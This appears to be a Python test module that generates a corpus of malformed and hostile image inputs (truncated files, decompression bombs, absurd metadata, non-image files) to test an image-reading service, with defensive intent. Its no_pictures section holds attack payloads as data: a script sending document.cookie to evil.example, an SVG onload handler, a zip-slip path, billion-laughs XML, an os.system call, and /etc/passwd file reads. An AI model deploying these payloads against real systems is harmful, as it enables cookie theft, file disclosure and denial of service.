"""Bad pictures made by code: damaged, with false headers, huge, or no pictures at all.

What can be read shows a 3. Further frames of a file show an 8, so that a test notices if
one of them is read instead.
"""

import gzip
import io
import itertools
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from typing import Literal, NamedTuple

import numpy as np
from PIL import Image

from tests.handwriting import draw_digit

Verdict = Literal["refused", "read", "blank", "either"]
SHARES = {"cut to its head": 0.02, "cut in half": 0.5, "cut near its end": 0.95}
FLIPS = 40  # bits flipped in a damaged file
SCAN = b"\xff\xda"  # JPEG's start of a scan


class Bad(NamedTuple):
    """A file, its name, and the result that reading it must have.

    Attributes:
        verdict: "refused": an error of one sentence. "read": the 3 that it shows. "blank":
            no digit. "either": an error or any answer.
    """

    name: str
    content: bytes
    verdict: Verdict


def three(side: int = 280) -> Image.Image:
    return Image.fromarray(draw_digit(3, side=side))


def saved(image: Image.Image, form: str, **options: object) -> bytes:
    file = io.BytesIO()
    image.save(file, form, **options)
    return file.getvalue()


def frames(form: str, count: int = 3, **options: object) -> bytes:
    """Make a file with a 3, followed by frames with an 8."""
    others = [
        Image.fromarray(draw_digit(8, pen=0.05 + 0.001 * n)) for n in range(count - 1)
    ]
    others = [other.convert("RGB") for other in others]
    options = {"save_all": True, "append_images": others} | options
    return saved(three().convert("RGB"), form, **options)


GOOD: dict[str, bytes] = {
    "jpg": saved(three(), "JPEG"),
    "progressive.jpg": saved(three(), "JPEG", progressive=True),
    "png": saved(three(), "PNG"),
    "gif": frames("GIF"),
    "webp": saved(three(), "WEBP"),
    "tiff": saved(three(), "TIFF", compression="tiff_lzw"),
    "avif": saved(three(), "AVIF"),
    "bmp": saved(three(), "BMP"),
    "mpo": frames("MPO"),
}


def bad_pictures(per_group: int | None = None) -> list[Bad]:
    """Make the corpus, always the same, or only the first files of each group."""
    groups = (damaged, bombs, absurd, many_frames, odd_numbers, no_pictures)
    chosen = (itertools.islice(group(), per_group) for group in groups)
    return [Bad(*file) for file in itertools.chain(*chosen)]


def damaged() -> Iterator[tuple[str, bytes, Verdict]]:
    for kind, content in GOOD.items():
        for how, share in SHARES.items():
            place = max(12, int(share * len(content)))
            yield (
                f"{how}.{kind}",
                content[:place],
                "either" if share > 0.1 else "refused",
            )
        for seed in range(3):
            yield f"bits flipped {seed}.{kind}", flipped(content, seed), "either"
        zeroed = content[:40] + bytes(len(content) - 40)
        yield f"zeros after its head.{kind}", zeroed, "either"


def flipped(content: bytes, seed: int) -> bytes:
    """Flip some bits, but none of the file's signature."""
    random, bits = np.random.default_rng(seed), np.frombuffer(content, np.uint8).copy()
    places = random.integers(12, len(bits), FLIPS)
    bits[places] ^= 1 << random.integers(0, 8, FLIPS).astype(np.uint8)
    return bits.tobytes()


def chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png(
    width: int,
    height: int,
    depth: int = 8,
    colors: int = 0,
    *,
    more: bytes = b"",
    pixels: bytes | None = None,
) -> bytes:
    """Make a PNG by hand; it is black without compressed `pixels`."""
    header = struct.pack(">IIBBBBB", width, height, depth, colors, 0, 0, 0)
    if pixels is None:
        samples = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colors]
        row = 1 + (width * depth * samples + 7) // 8
        pixels = zipped_zeros(row * height)
    palette = chunk(b"PLTE", bytes(range(256)) * 3) if colors == 3 else b""
    parts = (chunk(b"IHDR", header), palette, more, chunk(b"IDAT", pixels))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + chunk(b"IEND", b"")


@cache
def zipped_zeros(count: int) -> bytes:
    """Compress `count` zeros without having all of them in memory."""
    pack, block = zlib.compressobj(1), bytes(2**20)
    whole, rest = divmod(count, len(block))
    parts = [pack.compress(block) for _ in range(whole)]
    return b"".join([*parts, pack.compress(block[:rest]), pack.flush()])


def with_text(kind: bytes, key: bytes) -> bytes:
    """Make a good PNG with a chunk whose text unpacks to 200 MB."""
    good, zeros = GOOD["png"], zipped_zeros(200 * 2**20)
    return good[:33] + chunk(kind, key + zeros) + good[33:]


def bombs() -> Iterator[tuple[str, bytes, Verdict]]:
    some = zlib.compress(bytes(1000))
    yield "2 billion wide.png", png(2**31 - 1, 1, pixels=some), "refused"
    yield "2 billion high.png", png(1, 2**31 - 1, pixels=some), "refused"
    yield "10 gigapixels.png", png(100_000, 100_000, pixels=some), "refused"
    yield "144 megapixels.png", png(12_000, 12_000, 1), "refused"
    yield "50 megapixels, 1 bit.png", png(10_000, 5000, 1), "blank"
    yield "50 megapixels, gray.png", png(10_000, 5000), "blank"
    yield "50 megapixels, palette.png", png(10_000, 5000, 8, 3), "blank"
    yield "50 megapixels, color.png", png(10_000, 5000, 8, 2), "blank"
    yield "50 megapixels, transparent.png", png(10_000, 5000, 8, 6), "blank"
    yield "50 megapixels, 16 bits.png", png(10_000, 5000, 16), "blank"
    yield "50 megapixels, 16 bits a color.png", png(10_000, 5000, 16, 2), "blank"
    yield "50 megapixels.gif", huge("P", "GIF"), "blank"
    for kind, numbers, bits in (("float", 3, 32), ("whole", 2, 32), ("short", 1, 16)):
        zeros = zipped_zeros(50_000_000 * bits // 8)
        content = tiff(10_000, 5000, 8, zeros, bits=bits, numbers=numbers)
        yield f"50 megapixels of {kind} numbers.tiff", content, "blank"
    yield "50 megapixels.jpg", huge("L", "JPEG"), "blank"
    yield "50 megapixels, color.jpg", huge("RGB", "JPEG"), "blank"
    yield "65535 squared.jpg", resized_jpeg(65_535, 65_535), "refused"
    yield "more lines than it has.jpg", resized_jpeg(280, 60_000), "either"
    yield "200 scans of 16 megapixels.jpg", scans(200, 16), "refused"
    gif = bytearray(GOOD["gif"])
    gif[6:10] = struct.pack("<HH", 65_535, 65_535)
    yield "65535 squared.gif", bytes(gif), "refused"
    bmp = bytearray(GOOD["bmp"])
    bmp[18:26] = struct.pack("<ii", 2**31 - 1, 2**31 - 1)
    yield "2 billion squared.bmp", bytes(bmp), "refused"
    bmp[18:26] = struct.pack("<ii", 280, -(2**31))
    yield "2 billion high, upside down.bmp", bytes(bmp), "refused"
    yield "16383 squared.webp", webp(16_384, 16_384), "refused"
    yield "4 gigapixels.tiff", tiff(65_000, 65_000, 1, bytes(100)), "refused"
    yield "text unpacks to 200 MB.png", with_text(b"zTXt", b"Comment\0\0"), "either"
    yield "profile unpacks to 200 MB.png", with_text(b"iCCP", b"icc\0\0"), "either"
    tail = b"Comment\0\1\0\0\0"
    yield "unicode unpacks to 200 MB.png", with_text(b"iTXt", tail), "either"
    yield (
        "pixels unpack to more.png",
        png(10, 10, pixels=zipped_zeros(200 * 2**20)),
        "either",
    )


def huge(mode: str, form: str) -> bytes:
    return saved(Image.new(mode, (10_000, 5000)), form)


def resized_jpeg(width: int, height: int) -> bytes:
    """Make a JPEG with a false size in its header."""
    content = bytearray(GOOD["jpg"])
    place = content.index(b"\xff\xc0") + 5
    content[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def scans(count: int, megapixels: int) -> bytes:
    """Make a progressive JPEG that repeats its last scan; each one takes a pass."""
    image = Image.new("L", (1000 * megapixels, 1000))
    content = saved(image, "JPEG", progressive=True)
    last = content.rindex(SCAN)
    return content[:last] + content[last:-2] * count + content[-2:]


def webp(width: int, height: int) -> bytes:
    """Make a lossless WebP with this size in its header."""
    content = bytearray(saved(three(), "WEBP", lossless=True))
    place = content.index(b"VP8L") + 9
    bits = (width - 1) | (height - 1) << 14
    content[place : place + 4] = struct.pack("<I", bits)
    return bytes(content)


def tiff(
    width: int,
    height: int,
    compression: int,
    pixels: bytes,
    *,
    bits: int = 8,
    numbers: int = 1,
    following: int = 0,
) -> bytes:
    """Make a gray TIFF by hand, with its directory at byte 8.

    Args:
        numbers: The type of its pixels: 1 unsigned, 2 signed, 3 floating point.
        following: The offset of the next page's directory.
    """
    tags = ((256, width), (257, height), (258, bits), (259, compression), (262, 1))
    tags += ((273, 200), (277, 1), (278, height), (279, len(pixels)), (339, numbers))
    head = struct.pack("<2sHIH", b"II", 42, 8, len(tags))
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return (head + entries + struct.pack("<I", following)).ljust(200, b"\0") + pixels


def absurd() -> Iterator[tuple[str, bytes, Verdict]]:
    for mode in ("1", "L", "P", "RGB", "RGBA", "I;16"):
        yield (
            f"1x1 {mode.replace(';', '')}.png",
            saved(Image.new(mode, (1, 1)), "PNG"),
            "blank",
        )
    for form in ("JPEG", "GIF", "WEBP", "BMP", "TIFF"):
        yield f"1x1.{form.lower()}", saved(Image.new("RGB", (1, 1)), form), "blank"
    for size in ((1, 30_000), (30_000, 1), (1, 16), (2, 2)):
        name = "x".join(map(str, size))
        yield f"{name}.png", saved(Image.new("L", size, 255), "PNG"), "blank"
        noise = np.random.default_rng(0).integers(0, 256, size, np.uint8)
        yield f"{name} of noise.png", saved(Image.fromarray(noise), "PNG"), "either"
    yield "no width.png", png(0, 10, pixels=zlib.compress(b"")), "refused"
    yield "no height.bmp", GOOD["bmp"][:22] + bytes(4) + GOOD["bmp"][26:], "refused"
    yield "no size.gif", GOOD["gif"][:6] + bytes(4) + GOOD["gif"][10:], "either"
    yield from absurd_records()


def absurd_records() -> Iterator[tuple[str, bytes, Verdict]]:
    """Make good pictures of a 3 with absurd metadata."""
    records = {
        "turned by 9": exif(0x0112, 3, 9),
        "turned by nothing": exif(0x0112, 3, 0),
        "turned by 4 billion": exif(0x0112, 4, 2**32 - 1),
        "turned by a word": exif(0x0112, 2, int.from_bytes(b"up\0", "little")),
        "turned by 4 billion numbers": exif(0x0112, 4, 8, count=2**32 - 1),
        "EXIF in a circle": exif(0x8769, 4, 8),  # a directory within itself
        "noise as EXIF": b"Exif\0\0" + np.random.default_rng(1).bytes(2000),
        "64 KB of EXIF": b"Exif\0\0II*\0\x08\0\0\0" + b"\xff" * 65_000,
        "EXIF far away": b"Exif\0\0II*\0" + struct.pack("<I", 2**32 - 1),
    }
    for name, record in records.items():
        yield f"{name}.jpg", saved(three(), "JPEG", exif=record), "read"
        yield f"{name}.webp", saved(three(), "WEBP", exif=record), "read"
    noise = np.random.default_rng(2).bytes(4_000_000)
    yield "4 MB of profile.jpg", saved(three(), "JPEG", icc_profile=noise), "read"
    yield "4 MB of profile.tiff", saved(three(), "TIFF", icc_profile=noise), "read"
    yield "no profile at all.webp", saved(three(), "WEBP", icc_profile=b"x"), "read"
    laughs = b'<!DOCTYPE a [<!ENTITY a "ha">' + b"".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">'.encode() for n in range(1, 10)
    )
    laughs += b"]><x:xmpmeta tiff:Orientation='&a9;'>&a9;</x:xmpmeta>"
    yield "laughing XMP.jpg", saved(three(), "JPEG", xmp=laughs), "read"
    yield "1 MB of comment.gif", saved(three(), "GIF", comment=b"<b>" * 300_000), "read"


def exif(tag: int, kind: int, value: int, *, count: int = 1) -> bytes:
    """Make an EXIF record with one entry."""
    entry = struct.pack("<HHHIII", 1, tag, kind, count, value, 0)
    return b"Exif\0\0II*\0\x08\0\0\0" + entry


def many_frames() -> Iterator[tuple[str, bytes, Verdict]]:
    yield "3 frames.gif", GOOD["gif"], "read"
    yield "3 frames.webp", frames("WEBP"), "read"
    yield "3 frames.apng", frames("PNG"), "read"
    yield "3 pages.tiff", frames("TIFF"), "read"
    yield "3 pictures.mpo", GOOD["mpo"], "read"
    small = Image.new("P", (8, 8))
    others = [Image.new("P", (8, 8), n % 250) for n in range(5000)]
    many = saved(small, "GIF", save_all=True, append_images=others, optimize=False)
    yield "5000 frames.gif", many, "blank"
    yield "an oversized frame.gif", with_oversized_frame(), "either"
    pixels = np.asarray(three(64).convert("L")).tobytes()
    circle = tiff(64, 64, 1, pixels, following=8)
    yield "pages in a circle.tiff", circle, "read"


def with_oversized_frame() -> bytes:
    """Make a GIF of 1x1 pixels whose only frame has 65535x65535 in its header."""
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0)
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return head + frame + b"\x02\x02\x44\x01\0\x3b"


def odd_numbers() -> Iterator[tuple[str, bytes, Verdict]]:
    ink = 1 - np.asarray(three().convert("L"), np.float32) / 255
    dotted = ink.copy()
    dotted[::7, ::5] = np.nan
    spikes = ink.copy()
    spikes[0, :3] = np.inf, -np.inf, 3e38
    pictures = {
        "a NaN here and there": (dotted, "either"),
        "NaN everywhere": (np.full_like(ink, np.nan), "blank"),
        "infinities": (spikes, "either"),
        "tiny numbers": (ink * 1e-30, "either"),
        "below zero": (ink - 5, "read"),
        "32 bits of float": (ink, "read"),
        "the largest floats": (ink * np.float32(3e38), "read"),
        "32 bits": ((ink * (2**31 - 100)).astype(np.int32), "read"),
        "the least and the most": (np.where(ink > 0.5, 2**31 - 1, -(2**31)), "read"),
        "16 bits": ((ink * 65_535).astype(np.uint16), "read"),
    }
    for name, (pixels, verdict) in pictures.items():
        pixels = pixels.astype(np.int32) if pixels.dtype == np.int64 else pixels
        yield f"{name}.tiff", saved(Image.fromarray(pixels), "TIFF"), verdict
    yield "CIELAB.tiff", saved(three().convert("RGB").convert("LAB"), "TIFF"), "either"


def no_pictures() -> Iterator[tuple[str, bytes, Verdict]]:
    script = "<script>fetch('http://evil.example/' + document.cookie)</script>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{script}</svg>'
    pack = io.BytesIO()
    with zipfile.ZipFile(pack, "w") as archive:
        archive.writestr("../../three.png", GOOD["png"])
    files = {
        "empty.png": b"",
        "one byte.png": b"\x89",
        "a signature.png": b"\x89PNG\r\n\x1a\n",
        "a signature.jpg": b"\xff\xd8\xff",
        "a signature.gif": b"GIF89a",
        "a signature.webp": b"RIFF\x04\0\0\0WEBP",
        "a signature.tiff": b"II*\0",
        "zeros.png": bytes(100_000),
        "noise.jpg": np.random.default_rng(3).bytes(100_000),
        "drawing.svg": svg.encode(),
        "drawing.svg.png": svg.encode(),
        "page.html": script.encode(),
        "page.html.png": f"<!DOCTYPE html>{script}".encode(),
        "laughs.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "&a;&a;">]>&a;',
        "program.py": b"import os; os.system('touch /tmp/owned')",
        "program.exe": b"MZ" + bytes(500),
        "program.sh.png": b"#!/bin/sh\nexit 1\n",
        "words.txt": "Drei, trois, три, 三".encode("utf-16"),
        "numbers.json": b'{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}',
        "pickled.pkl": pickle.dumps({"three": 3}),
        "array.npy": b"\x93NUMPY\x01\0" + bytes(200),
        "pack.zip": pack.getvalue(),
        "pack.zip.jpg": pack.getvalue(),
        "pack.gz": gzip.compress(GOOD["png"]),
        "paper.pdf": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF",
        "script.eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
        "script.ps.png": b"%!PS\n(/etc/passwd) (r) file\n",
        "code.xbm": b"#define a_width 8\n#define a_height 1\nstatic char a[]={0xff};",
        "code.xpm": b'/* XPM */\nstatic char *a[]={"1 1 1 1","a c #000","a"};',
        "icon.ico": saved(three(), "ICO"),
        "icon.icns": saved(three().convert("RGB"), "ICNS"),
        "slow.jp2": saved(three(), "JPEG2000"),
        "raw.tga": saved(three(), "TGA"),
        "old.pcx": saved(three(), "PCX"),
        "plain.ppm": saved(three(), "PPM"),
        "plain text.ppm": b"P3 2 2 255 " + b"9 " * 12,
        "irix.sgi": saved(three(), "SGI"),
        "texture.dds": saved(three().convert("RGB"), "DDS"),
        "photoshop.psd": b"8BPS\0\1" + bytes(6) + b"\0\3\0\0\0\1\0\0\0\1\0\x08\0\3",
        "movie.mp4": b"\0\0\0\x18ftypisom" + bytes(300),
        "phone.heic": b"\0\0\0\x18ftypheic" + bytes(300),
    }
    yield "a gif named.png", GOOD["gif"], "read"
    yield "a jpeg named.svg", GOOD["jpg"], "read"
    yield from ((name, content, "refused") for name, content in files.items())
